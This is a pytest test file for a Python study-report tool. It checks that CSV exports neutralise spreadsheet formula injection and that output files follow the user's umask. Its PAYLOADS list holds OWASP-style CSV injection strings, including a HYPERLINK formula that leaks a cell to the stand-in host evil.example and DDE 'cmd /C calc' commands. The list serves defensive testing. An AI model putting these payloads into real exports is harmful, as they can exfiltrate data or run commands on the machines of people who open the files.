"""Exports are safe to open and to share: CSV cells cannot run as spreadsheet formulas
(OWASP "CSV Injection"), and written files get the user's umask, not mkstemp's 0600."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from test_cli_fuzz import run_cli

from oxstudy.report import export
from oxstudy.stats.analyze import analyze

#: Payloads from OWASP's CSV Injection page and the issue; each starts with a trigger.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_table() -> pd.DataFrame:
    """Two models x (a baseline + the payloads as algorithm names) x 3 seeds; the values are
    negative (a reward-like metric), so means, CIs and differences are real negative numbers."""
    rng = np.random.default_rng(0)
    rows = []
    for model, params in (("=m1", 1e8), ("m2", 1e9)):
        for index, algorithm in enumerate(["dpo", *PAYLOADS]):
            for seed in range(3):
                rows.append(
                    {
                        "model": model,
                        "algorithm": algorithm,
                        "seed": seed,
                        "benchmark": "@bench",
                        "value": -0.5 - 0.1 * index + rng.normal(0, 0.01),
                        "params": params,
                    }
                )
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def csv_files(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    analysis = analyze(hostile_table(), baseline="dpo", n_resamples=200)
    return export.export_tables(analysis, "csv", tmp_path_factory.mktemp("csv") / "out.html")


def raw_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_no_csv_cell_starts_a_formula(csv_files: list[Path]) -> None:
    assert [p.name for p in csv_files] == ["out.cells.csv", "out.comparisons.csv"]
    seen_payloads = set()
    for path in csv_files:
        for row in raw_cells(path):
            for cell in row:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    # only plain numbers may start with a sign
                    float(cell)
                if cell.startswith("'") and cell[1:] in PAYLOADS + ["=m1", "@bench"]:
                    seen_payloads.add(cell[1:])
    # Every payload is present, neutralised by exactly one leading quote (text otherwise intact).
    assert seen_payloads == set(PAYLOADS) | {"=m1", "@bench"}


def test_numbers_stay_numbers(csv_files: list[Path]) -> None:
    cells = pd.read_csv(csv_files[0], keep_default_na=False)
    assert cells["mean"].dtype.kind == "f" and (cells["mean"] < 0).all()
    assert cells["ci_low"].dtype.kind == "f"
    comparisons = pd.read_csv(csv_files[1], keep_default_na=False)
    assert comparisons["diff"].dtype.kind == "f" and (comparisons["diff"] < 0).any()
    # A negative number is written as a number: '-0.5...', never "'-0.5...".
    text = csv_files[0].read_text(encoding="utf-8")
    assert ",-0." in text and ",'-0." not in text
    assert set(cells["algorithm"]) == {"dpo", *("'" + p for p in PAYLOADS)}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("dpo", "dpo"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_formula(text: str, expected: str) -> None:
    assert export.neutralise_formula(text) == expected


# --------------------------------------------------------------------------- file modes


@pytest.fixture()
def umask():
    """Set a umask for one test and restore the previous one."""
    previous = os.umask(0o022)
    os.umask(previous)

    def set_mask(mask: int) -> None:
        os.umask(mask)

    yield set_mask
    os.umask(previous)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("mask", [0o022, 0o002, 0o077])
def test_report_files_follow_the_umask(mask: int, umask, tmp_path: Path, monkeypatch, capsys) -> None:
    table = tmp_path / "results.csv"
    hostile_table().query(
        "algorithm in ['dpo', '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")']"
    ).to_csv(table, index=False)
    monkeypatch.chdir(tmp_path)
    umask(mask)
    outcome = run_cli(
        [
            "report",
            str(table),
            "--resamples",
            "200",
            "-o",
            "out/r.html",
            "-f",
            "html",
            "-f",
            "csv",
            "-f",
            "md",
        ],
        capsys,
    )
    assert outcome.code == 0, outcome.err
    written = [Path(line) for line in outcome.out.split()]
    assert {p.name for p in written} >= {"r.html", "r.cells.csv", "r.md"}
    for path in written:
        assert mode(path) == 0o666 & ~mask, f"{path}: {oct(mode(path))} under umask {oct(mask)}"
    assert not [p for p in Path("out").iterdir() if p.name.startswith(".")]  # no temporary left behind


@pytest.mark.parametrize("mask", [0o022, 0o077])
def test_selfplay_cache_follows_the_umask(mask: int, umask, tmp_path: Path) -> None:
    from oxstudy.selfplay import _write_atomic

    umask(mask)
    path = tmp_path / "selfplay" / "abc.json"
    _write_atomic(path, {"completions": [["x"]], "correct": [[True]]})
    assert mode(path) == 0o666 & ~mask
    assert path.read_text() == '{"completions": [["x"]], "correct": [[true]]}'
